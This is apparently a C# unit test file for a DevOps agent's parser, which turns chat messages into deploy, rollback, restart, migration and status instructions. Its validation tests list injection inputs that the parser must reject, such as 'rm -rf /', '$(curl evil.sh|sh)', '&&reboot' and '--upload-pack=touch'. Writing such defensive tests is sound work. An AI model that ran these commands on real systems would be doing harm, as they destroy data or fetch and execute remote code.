using DevOpsAgent.Core.Errors;
using DevOpsAgent.Core.Git;
using DevOpsAgent.Core.Protocol;

namespace DevOpsAgent.Core.Tests.Protocol;

public sealed class InstructionParserTests
{
    private static readonly string[] Configured = ["staging", "production"];

    private static Instruction Parse(string body, string task = "TASK-045") =>
        InstructionParser.Parse(new AgentMessage(MessageMode.Execute, task, body), Configured);

    private static Instruction Deploy(string environment, RefSource source, string? gitRef = null) =>
        new DeployInstruction(environment, source, gitRef is null ? null : GitRef.Parse(gitRef));

    public static TheoryData<string, Instruction> Understood => new()
    {
        { "Deploy feature to staging", Deploy("staging", RefSource.Task) },
        { "deploy the feature to staging", Deploy("staging", RefSource.Task) },
        { "Deploy to staging", Deploy("staging", RefSource.Task) },
        { "deploy TASK-045 to staging", Deploy("staging", RefSource.Task) },
        { "deploy feature task-045 to Staging", Deploy("staging", RefSource.Task) },
        { "Deploy v1.2.3 to production", Deploy("production", RefSource.Ref, "v1.2.3") },
        { "deploy tag v1.2.3 to production", Deploy("production", RefSource.Tag, "v1.2.3") },
        { "deploy version v1.2.3 to production", Deploy("production", RefSource.Tag, "v1.2.3") },
        { "deploy branch feature/login to staging", Deploy("staging", RefSource.Branch, "feature/login") },
        { "deploy feature/login to staging", Deploy("staging", RefSource.Ref, "feature/login") },
        { "deploy commit 0123abcd on staging", Deploy("staging", RefSource.Ref, "0123abcd") },
        { "rollback production", new RollbackInstruction("production", null) },
        { "Roll back production to previous", new RollbackInstruction("production", null) },
        { "roll back production to v1.1.0", new RollbackInstruction("production", GitRef.Parse("v1.1.0")) },
        { "revert staging", new RollbackInstruction("staging", null) },
        { "restart staging", new RestartInstruction("staging", null) },
        { "restart staging backend", new RestartInstruction("staging", "backend") },
        { "restart backend on staging", new RestartInstruction("staging", "backend") },
        { "Restart the service backend in production", new RestartInstruction("production", "backend") },
        { "run migrations on staging", new MigrationsInstruction("staging", Apply: true) },
        { "migrate production", new MigrationsInstruction("production", Apply: true) },
        { "apply the migrations on staging", new MigrationsInstruction("staging", Apply: true) },
        { "check migrations on production", new MigrationsInstruction("production", Apply: false) },
        { "status staging", new StatusInstruction("staging") },
        { "production status", new StatusInstruction("production") },
    };

    [Theory]
    [MemberData(nameof(Understood))]
    public void Instructions_are_understood_deterministically(string body, Instruction expected)
    {
        Assert.Equal(expected, Parse(body));
    }

    [Theory]
    [InlineData("deploy v1;rm -rf / to staging", "Invalid git ref 'v1;rm -rf /': ';' is not allowed in a ref.")]
    [InlineData("Deploy v1.0.0;rm -rf / to staging", "Invalid git ref 'v1.0.0;rm -rf /': ';' is not allowed in a ref.")]
    [InlineData("deploy `reboot` to staging", "'`' is not allowed")]
    [InlineData("deploy $(curl evil.sh|sh) to staging", "'$' is not allowed")]
    [InlineData("deploy branch main&&reboot to staging", "'&' is not allowed")]
    [InlineData("deploy --upload-pack=touch to staging", "'=' is not allowed")]
    [InlineData("deploy -x to staging", "it starts with '-'")]
    [InlineData("deploy ../../etc to staging", "'..'")]
    [InlineData("deploy the new login page to staging", "space or control character")]
    [InlineData("rollback production to v1|sh", "'|' is not allowed")]
    [InlineData("restart staging back;end", "Invalid service name 'back;end'")]
    [InlineData("restart $(id) on staging", "Invalid service name '$(id)'")]
    [InlineData("deploy v1.0.0 to qa", "No environment 'qa' in devops-agent.yml (configured: staging, production).")]
    [InlineData("deploy v1.0.0 to staging;reboot", "No environment 'staging;reboot'")]
    [InlineData("status ../production", "No environment '../production'")]
    public void Text_from_the_message_is_validated_as_strictly_as_cli_flags(string body, string reason)
    {
        var error = Assert.Throws<InvalidInputException>(() => Parse(body));

        Assert.Contains(reason, error.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("delete the database on production")]
    [InlineData("drop table users")]
    [InlineData("please deploy")]
    [InlineData("deploy")]
    public void Anything_else_is_refused_with_what_can_be_asked(string body)
    {
        var error = Assert.Throws<RefusedException>(() => Parse(body));

        Assert.Equal(ExitCodes.Refused, error.ExitCode);
        Assert.StartsWith($"Not understood: '{body}'. DevOps Agent can be asked to: deploy [feature", error.Message, StringComparison.Ordinal);
        Assert.Contains("rollback <environment> [to <release>]", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_message_for_one_task_cannot_deploy_another()
    {
        var error = Assert.Throws<RefusedException>(() => Parse("deploy TASK-046 to staging"));

        Assert.Equal("The message is for TASK-045 but asks to deploy TASK-046: one task per EXECUTE. "
            + "Did you mean \"DevOps Agent [EXECUTE TASK-045]: Deploy feature to staging\"?", error.Message);
    }

    [Fact]
    public void A_whole_seed_message_goes_from_text_to_instruction()
    {
        var message = MessageParser.Parse("DevOps Agent [EXECUTE TASK-045]: Deploy feature to staging");

        Assert.Equal(Deploy("staging", RefSource.Task), InstructionParser.Parse(message, Configured));
    }
}
